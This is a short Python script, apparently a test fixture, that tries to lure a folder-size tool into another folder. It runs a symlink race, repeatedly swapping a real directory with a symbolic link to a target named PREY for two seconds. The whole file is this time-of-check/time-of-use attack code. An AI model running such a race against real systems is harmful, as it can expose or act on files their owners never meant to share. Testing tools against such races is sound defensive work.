# tries to: lead whoever weighs its folder into another's, by swapping folders for links
import os
import time

END = time.monotonic() + 2
os.makedirs("real/inner")
os.symlink(PREY["folder"], "link")
while time.monotonic() < END:
    os.rename("real", "turning")
    os.rename("link", "real")
    os.rename("real", "link")
    os.rename("turning", "real")
